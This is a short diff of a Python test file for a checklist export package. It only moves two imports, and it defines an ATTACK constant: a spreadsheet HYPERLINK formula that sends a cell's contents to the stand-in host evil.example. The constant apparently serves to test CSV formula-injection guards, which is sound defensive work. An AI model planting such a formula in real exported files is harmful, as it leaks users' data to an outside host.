@@ -15,7 +15,8 @@ import kz_inspection_checklists as kz
 from kz_inspection_checklists.cli import main
 from kz_inspection_checklists.exports import export
 from kz_inspection_checklists.exports.csv_table import FORMULA_STARTS, guard_cell, unguard_cell
-from kz_inspection_checklists.inspection import dumps_record, new_record
+from kz_inspection_checklists.record.files import dumps_record
+from kz_inspection_checklists.record.record import new_record
 
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
